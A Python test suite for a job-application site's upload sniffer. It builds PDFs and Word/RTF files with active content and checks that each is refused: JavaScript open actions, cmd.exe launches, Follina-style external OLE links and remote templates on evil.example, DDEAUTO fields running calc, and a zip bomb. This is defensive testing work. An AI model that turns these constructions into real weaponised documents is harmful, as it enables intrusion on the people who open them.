"""Uploads carry no active content: a corpus built here with pikepdf and zipfile, case by case.

Each refused case passed the old sniffer, which looked for `/JavaScript` in a PDF's raw bytes and did not
look inside Word documents' relationships or fields at all.
"""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest

from frontdesk.db import tables
from frontdesk.records import uploads
from frontdesk.records.sniff import UploadRejected, detect
from support import PDF, db_rows, make_pdf, run, token

JOB = "/careers/licensed-insurance-agent/apply"
WORD_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _action(kind: str, **entries: Any) -> pikepdf.Dictionary:
    values = {k: (pikepdf.String(v) if isinstance(v, str) else v) for k, v in entries.items()}
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **values)


def open_action(kind: str, **entries: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(_action(kind, **entries))

    return change


def page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(O=_action("JavaScript", JS="this.print()"))


def annotation(subtype: str, action: pikepdf.Dictionary | None = None, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + subtype), Rect=[0, 0, 9, 9])
        if action is not None:
            annot.A = action
        for key, value in more.items():
            annot[f"/{key}"] = value
        pdf.pages[0].Annots = pdf.make_indirect([pdf.make_indirect(annot)])

    return change


def names_javascript(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(_action("JavaScript", JS="app.alert(1)"))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]))


def file_attachment(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"MZ payload")
    stream.Type = pikepdf.Name.EmbeddedFile
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"), EF={"/F": stream})
    annotation("FileAttachment", FS=spec)(pdf)


def xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp:xdp/>"))


def encrypted() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


PDF_REFUSED = {
    "javascript on open": (make_pdf(open_action("JavaScript", JS="app.alert(1)")), "/JavaScript runs on its own"),
    "javascript in a compressed object stream": (
        make_pdf(open_action("JavaScript", JS="app.alert(1)"), object_streams=True),
        "/JavaScript runs on its own",
    ),
    "javascript when a page opens (/AA)": (make_pdf(page_aa), "/JavaScript runs on its own"),
    "javascript in the names tree": (make_pdf(names_javascript), "names tree"),
    "javascript behind a link": (make_pdf(annotation("Link", _action("JavaScript", JS="x"))), "pdf: /JS"),
    "launch": (make_pdf(open_action("Launch", F="cmd.exe")), "/Launch runs on its own"),
    "submit form": (make_pdf(annotation("Link", _action("SubmitForm", F="https://x.example"))), "/SubmitForm"),
    "go to another file": (make_pdf(annotation("Link", _action("GoToR", F="other.pdf"))), "/GoToR"),
    "import data": (make_pdf(annotation("Link", _action("ImportData", F="data.fdf"))), "/ImportData"),
    "embedded file": (make_pdf(file_attachment), "pdf: /"),
    "xfa form": (make_pdf(xfa), "/XFA"),
    "uri on open": (make_pdf(open_action("URI", URI="https://tracker.example/open")), "/URI runs on its own"),
    "encrypted": (encrypted(), "encrypted"),
}


@pytest.mark.parametrize("case", list(PDF_REFUSED))
def test_active_pdfs_are_refused(case):
    data, reason = PDF_REFUSED[case]
    with pytest.raises(UploadRejected) as refused:
        detect(data)
    assert reason in refused.value.reason and str(refused.value)


def test_a_link_a_person_clicks_is_fine():
    linked = make_pdf(annotation("Link", _action("URI", URI="https://www.linkedin.com/in/grace")), object_streams=True)
    assert detect(linked) == "pdf" and detect(PDF) == "pdf"


def docx(*, rels: dict[str, bytes] | None = None, document: bytes = b"<w:document/>", **extra: bytes) -> bytes:
    members = {"[Content_Types].xml": WORD_TYPES, "word/document.xml": document, **(rels or {}), **extra}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def rels(*relationships: tuple[str, str, bool]) -> bytes:
    items = "".join(
        f'<Relationship Id="r{i}" Type="{OFFICE_REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for i, (kind, target, external) in enumerate(relationships)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{items}</Relationships>'.encode()


FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {} </w:instrText></w:r>'
OFFICE_REFUSED = {
    "remote template": (
        docx(rels={"word/_rels/settings.xml.rels": rels(("attachedTemplate", "https://evil.example/t.dotm", True))}),
        "docx: external relationship",
    ),
    "external ole object (Follina)": (
        docx(rels={"word/_rels/document.xml.rels": rels(("oleObject", "https://evil.example/x.html!", True))}),
        "docx: external relationship",
    ),
    "linked picture on another host": (
        docx(rels={"word/_rels/document.xml.rels": rels(("image", "https://tracker.example/pixel.png", True))}),
        "docx: external relationship",
    ),
    "embedded object": (docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "docx: embedded object"),
    "dde field": (
        docx(document=FIELD.format('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"').encode()),
        "docx: DDE field",
    ),
    "dde in a simple field": (
        docx(document=b'<w:fldSimple w:instr="DDE cmd.exe /c calc"/>'),
        "docx: DDE field",
    ),
    "dde in a footer": (docx(**{"word/footer1.xml": FIELD.format("DDE cmd /c calc").encode()}), "docx: DDE field"),
    "rtf dde field": (
        b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}}',
        "rtf: DDE field",
    ),
}


@pytest.mark.parametrize("case", list(OFFICE_REFUSED))
def test_office_documents_that_load_or_run_things_are_refused(case):
    data, reason = OFFICE_REFUSED[case]
    with pytest.raises(UploadRejected) as refused:
        detect(data)
    assert refused.value.reason == reason and str(refused.value)


def test_a_word_resume_with_a_hyperlink_is_fine():
    linked = docx(
        rels={"word/_rels/document.xml.rels": rels(("hyperlink", "https://www.linkedin.com/in/grace", True))},
        document=FIELD.format('HYPERLINK "https://www.linkedin.com/in/grace"').encode(),
    )
    assert detect(linked) == "docx"


def test_a_zip_bomb_part_is_refused_at_the_budget():
    bomb = docx(document=b"<w:document>" + b" " * (9 * 1024 * 1024) + b"</w:document>")
    assert len(bomb) < 100_000
    with pytest.raises(UploadRejected) as refused:
        detect(bomb)
    assert refused.value.reason == "zip: parts too large to check"


def test_reading_a_file_that_takes_too_long_is_refused(monkeypatch):
    def slow(data: bytes) -> str:
        time.sleep(0.5)
        return "pdf"

    monkeypatch.setattr(uploads, "detect", slow)
    with pytest.raises(UploadRejected) as refused:
        run(uploads.inspect(PDF, within=0.05))
    assert refused.value.reason == "timeout"


FIELDS = {"name": "Grace Hopper", "email": "grace@example.com", "phone": "605 555 0123", "consent": "yes"}


def test_the_stored_and_downloaded_name_take_the_detected_extension(client, settings):
    text = b"Grace Hopper\nCOBOL, compilers.\n"
    r = client.post(JOB, data={**FIELDS, "_t": token(client, JOB)}, files={"resume": ("resume.hta", text, "text/html")})
    assert r.status_code == 303
    (row,) = db_rows(settings.database_url, tables.uploads)
    assert row.original_name == "resume.txt" and row.mime == "text/plain"
    (delivery,) = db_rows(settings.database_url, tables.deliveries)
    link = delivery.payload["data"]["resume"]["url"].removeprefix("http://testserver")
    assert delivery.payload["data"]["resume"]["filename"] == "resume.txt"
    download = client.get(link)
    assert download.status_code == 200 and 'filename="resume.txt"' in download.headers["content-disposition"]


def test_a_refused_pdf_through_the_form_is_a_422_and_stores_nothing(client, settings):
    data = make_pdf(open_action("JavaScript", JS="app.alert(1)"), object_streams=True)
    r = client.post(
        JOB, data={**FIELDS, "_t": token(client, JOB)}, files={"resume": ("cv.pdf", data, "application/pdf")}
    )
    assert r.status_code == 422 and "scripts" in r.text
    assert db_rows(settings.database_url, tables.submissions) == []
